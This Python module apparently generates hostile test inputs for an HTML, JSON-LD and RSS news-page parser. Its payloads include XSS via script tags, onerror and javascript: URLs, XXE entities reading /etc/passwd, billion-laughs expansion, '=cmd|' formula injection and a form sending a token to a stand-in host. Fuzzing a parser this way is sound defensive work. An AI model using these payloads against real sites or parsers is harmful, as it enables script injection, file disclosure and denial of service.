"""Attacks by markup: entities, nesting, attributes, scripts, and what a page says of itself."""

import json
from collections.abc import Iterator

from hostile.attack import MARK, Attack, markup, told

NEWS = told("وزیر")
ENTITIES = (
    "&#0;", "&#x110000;", "&#xD800;&#xDC00;", "&#99999999999999999999;", "&#x" + "F" * 5000 + ";", "&#-1;", "&#x;", "&" * 9_000,
    "&amp;" * 5_000 + "lt;script", "&lt;script&gt;" + MARK, "&NotEqualTilde;&nosuch;", "&#x202e;&#x2066;", "&zwnj;" * 5_000, "&#128;&#159;",
)  # fmt: skip
BODIES = {
    "deep-div": "<div>" * 50_000, "deep-table": "<table><tr><td>" * 900, "deep-list": "<ul><li>" * 1400, "deep-lists": "<ol><li>ا" * 36_000, "deep-b": "<b><i>" * 1400 + "x",
    "misnested": "<a><b><p></a></b>" * 2000, "formatting": "<font a=1><font b=2>" * 300 + "<p>" * 300, "comment": "<!--" * 20_000,
    "cdata": "<![CDATA[" * 9000, "declaration": "<!DOCTYPE " * 9000, "instruction": "<?php " * 9000, "tags": "<x/>" * 100_000,
    "attribute": f"<p title='{'ا' * 2_000_000}'>x</p>", "attributes": "<p " + " ".join(f"a{n}=b" for n in range(20_000)) + ">x",
    "same-attribute": "<p " + "a=b " * 50_000 + ">", "tag-name": "<" + "a" * 200_000 + ">", "names": "".join(f"<n{n}>x</n{n}>" for n in range(2000)),
    "unquoted": "<p title=" + "'\"" * 9000, "open-tag": "<p " * 20_000, "open-end": "</" * 30_000, "select": "<select><option>" * 3000,
    "template": "<template>" * 800, "svg": "<svg><foreignObject><math><mtext>" * 500, "frameset": "<frameset><frame>" * 999,
    "noscript": f"<noscript><p title='</noscript><img src=x onerror={MARK}()>'>", "mutation": f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror={MARK}()>'>",
    "svg-script": f"<svg><script>{MARK}()</script><use href='data:image/svg+xml,{MARK}'/></svg>", "script": f"<script>{MARK}()</script>" * 99,
    "iframe": f"<iframe src='javascript:{MARK}()'></iframe>", "object": f"<object data='file:///etc/passwd'></object><embed src=x>{MARK}",
    "include": "<!--#include file='/etc/passwd'--><xi:include href='file:///etc/passwd' xmlns:xi='http://www.w3.org/2001/XInclude'/>",
    "plaintext": "<plaintext>", "textarea": "<textarea>" * 999, "xmp": f"<xmp><script>{MARK}()", "title": "<title>" * 9000, "body": "<body>" * 9000,
    "form": f"<form action='https://{MARK}.example'><input name=token>", "links": "<a href='javascript:1'>خبر</a>" * 9000, "time": "<time datetime='" + "9" * 9000 + "'>" * 99,
    "headings": "<h1>دیدار</h1>" * 3000, "spaces": "<p>" + " " * 40_000 + "x", "hidden": "<p style='display:none' hidden aria-hidden=true>دیدار " * 200,
    "nbsp": "\u00a0" * 20_000, "bidi": "<bdo dir=rtl>" * 1500 + "\u202e" * 1500, "entities": "&lt;" * 20_000, "pre": "<pre>" + "\n" * 20_000,
}  # fmt: skip
HEADS = {
    "title": f"<title>{MARK}</title><title></title><script>{MARK}()</script>", "refresh": f"<meta http-equiv=refresh content='0;url=javascript:{MARK}()'>",
    "base": f"<base href='javascript:{MARK}()//'>", "canonical": f"<link rel=canonical href='javascript:{MARK}()'>",
    "og": "".join(f"<meta property='og:{name}' content='&lt;script&gt;{MARK}()&lt;/script&gt;'>" for name in ("title", "site_name", "url", "locale")),
    "og-formula": "".join(f"<meta property='og:{name}' content='=cmd|{MARK}!A0'>" for name in ("title", "site_name", "url")),
    "times": "<meta property='article:published_time' content='99999-99-99T99:99:99+99:99'><meta name=date content='-1'>",
    "metas": "<meta property='og:title' content='x'>" * 9000, "lang": "<meta name=language content='" + "x" * 9000 + "'>",
}  # fmt: skip
DATA = {
    "deep": "[" * 90_000, "deep-object": '{"a":' * 20_000 + "1" + "}" * 20_000, "cut": '{"@type": "NewsArticle", "headline": "', "nan": '{"@type":"NewsArticle","datePublished":NaN,"headline":1e999}',
    "types": '{"@type":["NewsArticle"],"headline":{"@value":[1]},"publisher":[[{"name":[null]}]],"datePublished":{"x":[]},"author":7}',
    "self": '{"@context":"file:///etc/passwd","@graph":[{"@id":"a","author":{"@id":"a"}}]}', "number": '{"headline":' + "9" * 9000 + "}",
    "script": json.dumps({"@type": "NewsArticle", "headline": f"</script><script>{MARK}()", "publisher": {"name": f"=cmd|{MARK}"}, "url": f"javascript:{MARK}()"}),
    "surrogate": '{"@type":"NewsArticle","headline":"\\ud800 خبر","publisher":{"name":"\\udfff"}}',
}  # fmt: skip
"""What is written as JSON-LD."""


def attacks() -> Iterator[Attack]:
    """Give them all."""
    for number, entity in enumerate(ENTITIES, start=1):
        yield markup(f"entity-{number:02}", f"<p>{entity} {NEWS}</p>")
    for name, body in BODIES.items():
        yield markup(f"markup-{name}", f"{body}<p>{NEWS}</p>")
    for name, head in HEADS.items():
        yield markup(f"head-{name}", f"<article><p>{NEWS}</p></article>", head)
    for name, data in DATA.items():
        script = f"<script type='application/ld+json'>{data}</script>"
        yield markup(f"data-{name}", f"<article><p>{NEWS}</p></article>", script)
    yield from _doctypes()


def _doctypes() -> Iterator[Attack]:
    """Declarations that make entities grow, or open files, as HTML and as a feed."""
    grow = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    for name, inner, use in (
        ("laughs", '<!ENTITY l0 "lol">' + grow, "&l9;"), ("quadratic", f'<!ENTITY a "{"ا" * 50_000}">', "&a;" * 5000),
        ("external", '<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;"), ("parameter", '<!ENTITY % p SYSTEM "file:///etc/hosts"> %p;', "&p;"),
        ("self", '<!ENTITY a "&b;"><!ENTITY b "&a;">', "&a;"),
    ):  # fmt: skip
        page = f'<?xml version="1.0"?><!DOCTYPE html [{inner}]><html><body><p>{use} {NEWS}</p></body></html>'
        feed = (
            f'<?xml version="1.0"?><!DOCTYPE rss [{inner}]><rss version="2.0"><channel><title>{use}</title><item>'
            f"<title>{use}</title><description>{use} {NEWS}</description></item></channel></rss>"
        )
        yield Attack(f"doctype-{name}", f"doctype-{name}.html", page.encode())
        yield Attack(f"doctype-{name}-feed", f"doctype-{name}.xml", feed.encode())
